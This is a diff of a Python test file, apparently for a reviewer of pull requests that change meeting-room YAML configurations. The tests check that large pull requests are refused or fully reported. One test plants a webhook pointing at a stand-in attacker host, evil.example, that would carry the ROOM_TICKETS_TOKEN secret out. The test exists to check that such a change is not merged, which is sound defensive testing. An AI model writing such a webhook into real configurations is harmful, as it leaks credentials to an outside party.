@@ -111,7 +111,7 @@ def a_host_among_too_many(s):
     hook = "{}: https://{}-{}." + label + ".example/${{env:ROOM_TICKETS_TOKEN}}\n"
     rooms = {f"rooms/crowd-{n}.yaml": "".join(hook.format(name, name.lower(), n) for name in hooks) for n in range(90)}
     pull = s.pull_request({**rooms, "rooms/crowd-90.yaml": "meetingEndedWebhook: https://evil.example/${env:ROOM_TICKETS_TOKEN}\n"})
-    where = not_planned(s, pull, "not planned")
+    where = not_planned(s, pull, "not planned", "make several pull requests of it")
     check(s.apply(s.merge(pull)) is False and s.room("crowd-90") is None, s.runner.log)
     return where
 
@@ -1265,6 +1265,11 @@ def a_room_among_many(s):
     hook = {"rooms/many/_defaults.yaml": "meetingEndedWebhook: https://hooks.example.com/${env:ROOM_TICKETS_TOKEN}\n"}
     pull = s.pull_request({**rooms, **hook, "rooms/many/zz.yaml": "maxParticipants: 5\n"})
     check(s.commented and "<code>zz</code>" in s.comment_of(pull), s.comment_of(pull)[-400:])
+    # Also where no two are alike: what does not fit otherwise is the names of rooms, and all of them.
+    rooms = {f"rooms/many/own{n:04}.yaml": f"maxParticipants: {n + 6}\n" for n in range(1200)}
+    pull = s.pull_request({**rooms, **hook, "rooms/many/zz.yaml": "maxParticipants: 5\n"})
+    names = re.findall(r"\w+", re.sub("<.*?>", " ", s.comment_of(pull)))
+    check(s.commented and {f"own{n:04}" for n in range(1200)} | {"zz"} <= set(names), s.comment_of(pull)[:900])
     return "a report that leaves out no room with an effect or a secret"
 
 
